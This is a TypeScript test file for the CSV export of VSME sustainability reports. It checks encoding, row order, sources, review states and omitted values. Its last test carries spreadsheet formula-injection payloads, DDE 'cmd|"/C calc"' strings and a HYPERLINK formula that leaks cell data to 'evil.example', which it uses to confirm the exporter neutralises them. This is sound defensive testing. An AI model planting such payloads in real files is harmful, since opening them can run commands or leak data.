import type { VsmeReport } from '@impact/contracts';
import { vsmeDatapoint, vsmeStandard } from '@impact/knowledge';
import { describe, expect, it } from 'vitest';
import { fixtureVsmeReport, vsmeValue, withValues } from './fixture-vsme-report.js';
import { parseCsv } from './csv-read.js';
import { buildVsmeExport } from './index.js';

async function csvOf(report: VsmeReport): Promise<{ text: string; rows: Record<string, string>[] }> {
  const { body } = await buildVsmeExport(report, 'csv');
  const text = body as string;
  const [header = [], ...records] = parseCsv(text.replace(/^\uFEFF/, ''));
  return {
    text,
    rows: records.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i] ?? '']))),
  };
}

const rowOf = (rows: Record<string, string>[], identifier: string) => {
  const row = rows.find((candidate) => candidate.Identifier === identifier);
  if (!row) throw new Error(`no row for ${identifier}`);
  return row;
};

const label = (id: string) => vsmeDatapoint('vsme-recommendation-2025', id)?.label ?? id;

describe('VSME report as CSV', () => {
  it('is UTF-8 with a byte order mark, CRLF records and one row per datapoint in the standard’s order', async () => {
    const { text, rows } = await csvOf(fixtureVsmeReport());
    expect(
      text.startsWith('\uFEFFDisclosure,Identifier,Label,Value,Unit,Status,Review,Sources,Note\r\n'),
    ).toBe(true);
    const datapoints = vsmeStandard('vsme-recommendation-2025').datapoints;
    expect(rows.map((row) => row.Label)).toEqual(datapoints.map((datapoint) => datapoint.label));
    expect(rows.map((row) => row.Disclosure)).toEqual(datapoints.map((datapoint) => datapoint.disclosure));

    const basic = await csvOf({ ...fixtureVsmeReport(), module: 'basic' });
    expect(basic.rows).toHaveLength(
      datapoints.filter((datapoint) => datapoint.disclosure.startsWith('B')).length,
    );
  });

  it('writes value, unit, status, review, sources as text and a note', async () => {
    const { rows } = await csvOf(fixtureVsmeReport());
    expect(rowOf(rows, 'vsme:Turnover')).toEqual({
      Disclosure: 'B1',
      Identifier: 'vsme:Turnover',
      Label: 'Turnover',
      Value: '18400000',
      Unit: 'EUR',
      Status: 'found',
      Review: '',
      Sources:
        '[1] Sprawozdanie finansowe 2025 – Zakład Mleczarski.pdf (uploaded document), page 7 · Rachunek zysków i strat: “Przychody netto ze sprzedaży wyniosły 18,4 mln EUR (2024: 17,1 mln EUR).”, retrieved 2026-10-14',
      Note: 'Method: Net revenue from the 2025 income statement',
    });
    // A template question has no taxonomy element: our id stands in.
    expect(rowOf(rows, 'HasEnergyBreakdownInformation')).toMatchObject({ Value: 'Yes', Status: 'entered' });
    expect(rowOf(rows, 'vsme:TotalAmountOfWaterWithdrawnFromAllSites').Sources).toBe(
      [
        '[1] Sprawozdanie finansowe 2025 – Zakład Mleczarski.pdf (uploaded document), page 7 · Rachunek zysków i strat: “Przychody netto ze sprzedaży wyniosły 18,4 mln EUR (2024: 17,1 mln EUR).”, retrieved 2026-10-14',
        '[2] Zrównoważony rozwój – energia (https://www.mleczarnia-lodz.example/zrownowazony-rozwoj): “W 2025 r. zużyliśmy łącznie 2 450 MWh energii, w tym 410 MWh z paneli fotowoltaicznych.”, retrieved 2026-10-02',
      ].join('\n'),
    );
    expect(rowOf(rows, 'vsme:DescriptionOfHowCircularEconomyPrinciplesAreApplied')).toMatchObject({
      Value:
        'Příliš žluťoučký kůň úpěl ďábelské ódy: obaly se vracejí dodavateli.\nMehrwegkisten in Größe M für Kunden in Österreich.',
      Note: 'Note: Opis zatwierdzony przez zarząd (Łódź).',
    });
    expect(rowOf(rows, 'vsme:ListOfSitesTable').Value).toBe(
      [
        'Zakład Łódź: Address of site = ul. Źródłowa 12; Postal code of site = 91-735; City of site = Łódź; Country of site = PL',
        'Sklad Brno: Address of site = Příkop 843/4; City of site = Brno; Country of site = CZ',
      ].join('\n'),
    );
  });

  it('says which values nobody accepted, and leaves out those returned and omitted', async () => {
    const { rows, text } = await csvOf(fixtureVsmeReport());
    expect(rowOf(rows, 'vsme:GrossScope1GreenhouseGasEmissions')).toMatchObject({
      Value: '373.24',
      Unit: 'tCO2e',
      Status: 'estimated',
      Review: 'pending',
      Note: 'Estimated – not yet accepted\nMethod: Scope 1 from 2,040 MWh of natural gas × 0.18296 tCO2e/MWh',
    });
    expect(rowOf(rows, 'vsme:GrossMarketBasedScope2GreenhouseGasEmissions')).toMatchObject({
      Value: '',
      Status: 'estimated',
      Review: 'returned',
      Sources: '',
      Note: 'Estimated – returned for revision',
    });
    const convictions = 'TotalNumberOfConvictionsForTheViolationOfAntiCorruptionAndAntiBriberyLaws';
    expect(rowOf(rows, `vsme:${convictions}`)).toMatchObject({
      Value: '',
      Status: 'omitted',
      Sources: '',
      Note: `Omitted: “${label(convictions)}” (B11) is omitted because it is deemed classified or sensitive information.`,
    });
    expect(text).not.toContain('Grzywna');
    expect(rowOf(rows, 'vsme:DescriptionOfSustainabilityRelatedCertificationsOrLabels')).toMatchObject({
      Status: 'not-applicable',
      Note: expect.stringMatching(/^Not applicable: applies only when “.+” is Yes; the answer is No\.$/),
    });
    expect(rowOf(rows, 'vsme:Assets')).toMatchObject({ Value: '', Status: 'missing', Note: '' });
    expect(rowOf(rows, 'vsme:EnergyConsumptionFromFuels')).toMatchObject({
      Value: '',
      Status: 'missing',
      Note: 'Given in the table “Breakdown of energy consumption [table]”',
    });
  });

  it('neutralises every cell a spreadsheet would run as a formula', async () => {
    const hostile = [
      ['DescriptionOfSignificantMarketsTheUndertakingOperatesIn', '+48 42 555 01 23|cmd'],
      ['DescriptionOfMainBusinessRelationships', '-2+3+cmd|"/C calc"!A0'],
      [
        'DescriptionOfKeyElementsOfStrategyThatRelatesToOrAffectsSustainabilityIssues',
        '@SUM(1+9)*cmd|"/C calc"!A0',
      ],
      ['DescriptionOfPracticesPoliciesAndOrFutureInitiatives', '\t=1+1'],
      ['MostSeniorLevelAccountableForImplementationOfPolicies', '\r=1+1'],
    ] as const;
    const report = withValues(fixtureVsmeReport(), [
      ...hostile.map(([id, text]) => vsmeValue(id, { status: 'entered', value: text })),
      vsmeValue('PercentageOfEmployeesCoveredByCollectiveBargainingAgreements', {
        status: 'entered',
        value: -3.5,
      }),
      vsmeValue('ListOfSitesTable', {
        status: 'entered',
        value: [{ row: '=cmd|"/C calc"!A0', cells: { CityOfSite: 'Łódź' } }],
      }),
    ]);
    const { rows, text } = await csvOf(report);
    expect(rowOf(rows, 'vsme:DescriptionOfSignificantGroupsOfProductsAndOrServicesOffered').Value).toBe(
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Open")`,
    );
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")"`);
    for (const [id, value] of hostile) expect(rowOf(rows, `vsme:${id}`).Value).toBe(`'${value}`);
    expect(rowOf(rows, 'vsme:PercentageOfEmployeesCoveredByCollectiveBargainingAgreements').Value).toBe(
      "'-3.5",
    );
    expect(rowOf(rows, 'vsme:ListOfSitesTable').Value).toBe(`'=cmd|"/C calc"!A0: City of site = Łódź`);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell, row.Identifier).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
